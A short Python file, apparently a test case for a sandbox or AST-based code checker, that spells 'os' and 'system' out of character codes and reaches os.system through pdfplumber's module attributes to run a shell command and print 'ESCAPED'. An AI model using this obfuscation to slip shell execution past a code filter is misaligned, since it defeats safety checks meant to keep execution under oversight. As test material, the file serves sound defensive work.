# class: astpass
# goal: reach os.system without naming it
# ruff: noqa
import functools
import pdfplumber


def parse(pdf_path):
    words = ["".join(chr(n) for n in (111, 115)), "".join(chr(n) for n in (115, 121, 115, 116, 101, 109))]
    found = (
        functools.reduce(lambda a, b: getattr(a, b), ["pdf", *words], pdfplumber)
        if hasattr(pdfplumber.pdf, words[0])
        else None
    )
    for module in (pdfplumber.pdf, pdfplumber.page, pdfplumber.utils):
        tool = getattr(module, words[0], None)
        if tool is not None and getattr(tool, words[1])("true") == 0:
            print("ESCAPED", flush=True)
